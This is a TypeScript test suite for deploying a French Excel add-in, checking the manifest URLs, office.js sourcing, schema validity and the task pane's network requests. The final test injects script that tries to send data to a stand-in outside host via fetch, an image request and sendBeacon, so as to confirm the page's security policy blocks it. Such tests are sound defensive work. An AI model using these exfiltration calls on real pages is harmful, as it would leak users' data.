/** The folder to be deployed, as an IT department gets it: its manifest, its files, and what its page asks of the network. */
import { existsSync, readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import type { Browser, Page } from "playwright-core";
import { validateXML } from "xmllint-wasm";
import { type Built, builtAndServed } from "./built";
import { launch } from "./chromium";

const BASE = "https://outils.departement.example/excel/spaser";
const OFFICE = "https://appsforoffice.microsoft.com/lib/1/hosted/";
const OFFICE_FILES = join(__dirname, "../../node_modules/@microsoft/office-js/dist");
const SCHEMAS = join(__dirname, "../../../shared/data/manifest-xsd");

let built: Built;
let browser: Browser;
const textOf = (file: string): string => readFileSync(join(built.folder, file), "utf8");

beforeAll(async () => {
  // A slash too many at the end is forgiven.
  built = await builtAndServed({ office: "cdn", base: `${BASE}/` });
  browser = await launch();
}, 180_000);
afterAll(async () => {
  await browser.close();
  await built.end();
});

test("every address of the manifest and of the functions is under the base, and is a file of the folder", () => {
  const texts = ["manifest.xml", "functions.json", "functions.fr.json"].map(textOf).join("\n");
  const urls = [...texts.matchAll(/"(https?:\/\/[^"#]+)/g)].map(([, url]) => url ?? "");
  const own = urls.filter((url) => !/^https?:\/\/(schemas\.microsoft\.com|www\.w3\.org)\//.test(url));
  expect(own.length).toBeGreaterThan(60);
  expect(own.filter((url) => !url.startsWith(`${BASE}/`))).toEqual([]);
  const files = [...new Set(own.map((url) => url.slice(BASE.length + 1)))];
  expect(files).toContain("taskpane.html");
  expect(files.filter((file) => !existsSync(join(built.folder, file)))).toEqual([]);
});

test("nothing of the development server is left in the folder, and office.js is Microsoft's", () => {
  const files = readdirSync(built.folder, { recursive: true, encoding: "utf8" });
  const texts = files.filter((file) => /\.(?:html|json|xml)$/.test(file));
  expect(texts.filter((file) => textOf(file).includes("localhost"))).toEqual([]);
  expect(textOf("taskpane.html")).toMatch(/src="?https:\/\/appsforoffice\.microsoft\.com\/lib\/1\/hosted\/office\.js/);
  expect(files.filter((file) => file.startsWith("office"))).toEqual([]);
});

(existsSync(SCHEMAS) ? test : test.skip)("Microsoft's schemas accept its manifest", async () => {
  const read = (fileName: string) => ({ fileName, contents: readFileSync(join(SCHEMAS, fileName), "utf8") });
  const main = "OfficeAppManifestV1_1.xsd";
  const others = readdirSync(SCHEMAS).filter((name) => name.endsWith(".xsd") && name !== main);
  const { errors } = await validateXML({
    xml: { fileName: "manifest.xml", contents: textOf("manifest.xml") },
    schema: [read(main)],
    preload: others.map(read),
  });
  expect(errors.map(({ message }) => message)).toEqual([]);
});

/**
 * Opens the page; gives the addresses that it asked of the network, its own apart: what its policy refuses never got
 * there. Microsoft's files come from their package.
 */
async function opened(): Promise<{ page: Page; own: string[]; others: string[] }> {
  const page = await browser.newPage();
  const [own, others]: [string[], string[]] = [[], []];
  page.on("request", (request) => {
    const url = request.url();
    if (/^(?:data|blob):/.test(url)) return;
    (url.startsWith(`${built.url}/`) ? own : others).push(url);
  });
  page.on("requestfailed", (request) => {
    if (request.failure()?.errorText === "csp") others.splice(others.indexOf(request.url()), 1);
  });
  await page.route(`${OFFICE}**`, (route) => {
    const file = join(OFFICE_FILES, new URL(route.request().url()).pathname.slice("/lib/1/hosted/".length));
    return existsSync(file)
      ? route.fulfill({ body: readFileSync(file), contentType: "text/javascript" })
      : route.fulfill({ status: 404 });
  });
  await page.goto(`${built.url}/taskpane.html`);
  await page.getByRole("button", { name: "Ouvrir un classeur…" }).waitFor();
  return { page, own, others };
}

test("the page asks for its own files and for office.js, and for nothing else, also once it works", async () => {
  const { page, own, others } = await opened();
  await page.locator("input[type=file]").setInputFiles(join(__dirname, "../../examples/registres-2025.xlsx"));
  await page.getByRole("heading", { name: "À faire maintenant" }).waitFor();
  await page.waitForTimeout(1_500);
  expect(own.map((url) => new URL(url).pathname)).toContain("/functions.js");
  expect(others).toContain(`${OFFICE}office.js`);
  expect(others.filter((url) => !url.startsWith(OFFICE))).toEqual([]);
  await page.close();
});

test("the policy of the page keeps a script from sending anything elsewhere", async () => {
  const { page, others } = await opened();
  const tried = await page.evaluate<string[]>(`Promise.all([
    fetch("https://ailleurs.example/").then(() => "sent", () => "refused"),
    new Promise((done) => {
      const image = new Image();
      image.onload = () => done("sent");
      image.onerror = () => done("refused");
      image.src = "https://ailleurs.example/x.png";
    }),
    Promise.resolve(navigator.sendBeacon("https://ailleurs.example/", "x")).then(() => "asked"),
  ])`);
  expect(tried.slice(0, 2)).toEqual(["refused", "refused"]);
  expect(others.filter((url) => url.includes("ailleurs"))).toEqual([]);
  await page.close();
});
